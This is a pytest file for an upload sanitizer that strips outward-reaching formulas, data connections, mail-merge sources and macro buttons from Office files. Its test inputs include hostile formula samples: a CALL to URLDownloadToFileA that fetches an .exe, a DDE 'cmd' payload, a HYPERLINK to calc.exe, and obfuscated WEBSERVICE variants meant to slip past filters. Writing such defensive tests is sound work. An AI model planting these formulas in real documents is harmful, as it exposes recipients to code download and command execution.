"""Formulas, connections and buttons that fetch from or open something outside of their file."""

import pytest

from assess import uploads
from assess.uploads.left_out import LeftOut
from tests import files
from tests.uploads.packages import kept, parts

SHEET = '<worksheet><sheetData><row r="1">{}</row></sheetData></worksheet>'
CELL = '<c r="A1" t="str"><f>{}</f><v>shown</v></c>'


def sheet_with(formula: str) -> bytes:
    return files.office("xlsx", {"xl/worksheets/sheet1.xml": SHEET.format(CELL.format(formula))})


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.jp/"&amp;A2)',
        '_xlfn.WEBSERVICE("http://example.jp/")',
        'IF(A2,1,webservice ("http://example.jp/"))',
        '_xlfn.IMAGE("https://example.jp/a.png")',
        'RTD("server","",1)',
        'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.jp/","a.exe",0,0)',
        'HYPERLINK("\\\\server\\share\\a.docx","open")',
        'HYPERLINK("file:///c:/windows/system32/calc.exe")',
        'HYPERLINK("C:\\a.exe")',
        "HYPERLINK(A2)",
        'IF(A2,HYPERLINK("https://example.jp/"),HYPERLINK("//server/x"))',
        'IMPORTDATA("https://example.jp/a.csv")',
        "cmd|'/c calc'!A0",
        "'\\\\server\\share\\[a.xlsx]Sheet1'!A1",
        "<![CDATA[WEBSERVICE(A2)]]>",
        "&#87;EBSERVICE(A2)",
        "WEB<!-- -->SERVICE(A2)",
        "WEB<?a b?>SERVICE(A2)",
    ],
)
def test_a_formula_that_leads_out_of_the_file_goes_and_its_value_stays(formula: str) -> None:
    clean = uploads.check("a.xlsx", sheet_with(formula))
    assert kept(clean, "xl/worksheets/sheet1.xml") == SHEET.format('<c r="A1" t="str"><v>shown</v></c>')
    assert clean.left_out == {LeftOut.FETCHING}


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A2:A9)",
        'IF(A2="WEBSERVICE(x)","\\\\a","b")',
        'HYPERLINK("https://example.jp/","open")',
        'HYPERLINK("#"&amp;A2&amp;"!A1","to the sheet")',
        'HYPERLINK("mailto:"&amp;A2)',
        'HYPERLINK("list.xlsx")',
        "[1]Sheet1!A1",
        'A2&amp;"|"&amp;A3',
        "MYWEBSERVICE(A2)",
    ],
)
def test_a_formula_that_stays_in_its_file_is_kept(formula: str) -> None:
    clean = uploads.check("a.xlsx", sheet_with(formula))
    assert kept(clean, "xl/worksheets/sheet1.xml") == SHEET.format(CELL.format(formula))
    assert clean.left_out == set()


def test_formulas_that_one_cell_spells_out_for_others_go_with_it_and_so_does_the_list_of_cells() -> None:
    first = '<c r="A1"><f t="shared" ref="A1:A2" si="0">WEBSERVICE(B1)</f><v>1</v></c>'
    rest = '<c r="A2"><f t="shared" si="0"/><v>2</v></c><c r="A3"><f t="shared" si="1">B3</f><v>3</v></c>'
    chain = f'<Relationship Id="r9" Type="{files.LINKS}/calcChain" Target="calcChain.xml"/>'
    inside = {
        "xl/worksheets/sheet1.xml": SHEET.format(first + rest),
        "xl/calcChain.xml": '<calcChain><c r="A1"/></calcChain>',
    }
    clean = uploads.check("a.xlsx", files.office("xlsx", inside, links=chain))
    left = '<c r="A1"><v>1</v></c><c r="A2"><v>2</v></c><c r="A3"><f t="shared" si="1">B3</f><v>3</v></c>'
    assert kept(clean, "xl/worksheets/sheet1.xml") == SHEET.format(left)
    assert "xl/calcChain.xml" not in parts(clean.content)
    assert "calcChain" not in kept(clean, "xl/_rels/workbook.xml.rels")


def test_a_name_and_a_rule_that_lead_out_of_the_file_go_too() -> None:
    rules = "<worksheet><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></worksheet>"
    book = "<workbook><definedNames><definedName name='a'>WEBSERVICE(A1)</definedName></definedNames></workbook>"
    clean = uploads.check("a.xlsx", files.office("xlsx", {"xl/worksheets/sheet1.xml": rules}, document=book))
    assert kept(clean, "xl/workbook.xml") == "<workbook><definedNames></definedNames></workbook>"
    assert kept(clean, "xl/worksheets/sheet1.xml") == "<worksheet><cfRule></cfRule></worksheet>"


def test_a_connection_is_kept_as_one_that_was_removed_and_leads_nowhere() -> None:
    there = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="売上"'
        ' type="5" refreshOnLoad="1" sourceFile="\\\\server\\a.mdb" odcFile="\\\\server\\a.odc" refreshedVersion="6">'
        '<dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\server\\a.mdb" command="x"/></connection>'
        '<connection id="2" name="web" type="4" refreshedVersion="6"><webPr url="http://example.jp/"/></connection>'
        "</connections>"
    )
    clean = uploads.check("a.xlsx", files.office("xlsx", {"xl/connections.xml": there}))
    left = kept(clean, "xl/connections.xml")
    assert '<connection id="1" name="売上" type="5" deleted="1" refreshedVersion="0"/>' in left
    assert [word for word in ("server", "http://example", "refreshOnLoad", "Provider") if word in left] == []
    assert clean.left_out == {LeftOut.ELSEWHERE}


def test_queries_of_excel_are_left_out_with_a_word() -> None:
    query = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    own = files.relationships(f'<Relationship Id="r1" Type="{files.LINKS}/customXmlProps" Target="itemProps1.xml"/>')
    inside = {"customXml/item1.xml": query, "customXml/itemProps1.xml": "<a/>", "customXml/_rels/item1.xml.rels": own}
    link = f'<Relationship Id="r8" Type="{files.LINKS}/customXml" Target="../customXml/item1.xml"/>'
    clean = uploads.check("a.xlsx", files.office("xlsx", inside, links=link))
    assert not {"customXml/item1.xml", "customXml/_rels/item1.xml.rels"} & parts(clean.content).keys()
    assert clean.left_out == {LeftOut.ELSEWHERE}


def test_where_the_letters_of_word_take_addresses_from_goes() -> None:
    merging = (
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge>'
        '<w:connectString w:val="Data Source=\\\\server\\a.mdb"/><w:query w:val="SELECT 1"/></w:mailMerge></w:settings>'
    )
    clean = uploads.check("a.docx", files.office(parts={"word/settings.xml": merging}))
    assert "server" not in kept(clean, "word/settings.xml")
    assert clean.left_out == {LeftOut.ELSEWHERE}


@pytest.mark.parametrize("action", ["program", "macro?name=x", "ole?verb=0"])
def test_a_button_of_powerpoint_that_starts_a_program_starts_nothing(action: str) -> None:
    slide = f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:hlinkClick r:id="r2" action="ppaction://{action}"/></p:sld>'
    clean = uploads.check("a.pptx", files.office("pptx", {"ppt/slides/slide1.xml": slide}))
    assert "ppaction" not in kept(clean, "ppt/slides/slide1.xml")
    assert clean.left_out == {LeftOut.ELSEWHERE}


MACROS_ELSEWHERE = [r"\\server\share\book.xlsm!Run", "[1]!Run", "'C:\\a\\[b.xlsm]c'!Run", "b.xlsm!Run", "&#91;1]!Run"]


@pytest.mark.parametrize("macro", MACROS_ELSEWHERE)
def test_a_shape_of_excel_that_starts_a_macro_of_another_workbook_starts_nothing(macro: str) -> None:
    shape = '<xdr:sp xmlns:xdr="x" {} textlink="" descr=\' macro="[2]!kept"\'><xdr:txBody>押す</xdr:txBody></xdr:sp>'
    old = '<xml xmlns:x="x"><x:ClientData ObjectType="Button">{}<x:Column>1</x:Column></x:ClientData></xml>'
    parts = {
        "xl/drawings/drawing1.xml": shape.format(f'macro="{macro}"'),
        "xl/worksheets/sheet1.xml": f'<s><controlPr macro = "{macro}"/></s>',
        "xl/drawings/vmlDrawing1.vml": old.format(f"<x:FmlaMacro>{macro}</x:FmlaMacro>"),
    }
    clean = uploads.check("a.xlsx", files.office("xlsx", parts))
    assert kept(clean, "xl/drawings/drawing1.xml") == shape.format('macro=""')
    assert kept(clean, "xl/worksheets/sheet1.xml") == '<s><controlPr macro = ""/></s>'
    assert kept(clean, "xl/drawings/vmlDrawing1.vml") == old.format("")
    assert clean.left_out == {LeftOut.ELSEWHERE}


@pytest.mark.parametrize("macro", ["", "[0]!Button1_Click", "Button1_Click"])
def test_a_shape_that_names_no_other_workbook_stays_as_it_is(macro: str) -> None:
    shape = f'<xdr:sp xmlns:xdr="x" macro="{macro}" textlink="[1]!A1"/>'
    clean = uploads.check("a.xlsx", files.office("xlsx", {"xl/drawings/drawing1.xml": shape}))
    assert (kept(clean, "xl/drawings/drawing1.xml"), clean.left_out) == (shape, frozenset())


def test_a_large_sheet_with_such_a_formula_is_read_in_time() -> None:
    rows = "".join(f'<c r="A{row}"><f>SUM(B{row}:B9)</f><v>{row**2}</v></c>' for row in range(40_000))
    sheet = SHEET.format(rows + CELL.format("PY(A1)"))
    clean = uploads.check("a.xlsx", files.office("xlsx", {"xl/worksheets/sheet1.xml": sheet}))
    assert clean.left_out == {LeftOut.FETCHING}
